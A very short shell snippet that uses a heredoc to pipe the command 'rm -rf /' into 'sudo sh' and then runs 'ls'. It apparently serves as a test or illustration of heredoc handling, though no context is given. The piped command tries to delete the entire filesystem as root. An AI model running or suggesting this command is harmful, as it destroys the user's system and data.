cat <<-END | sudo sh
	rm -rf /
	END
ls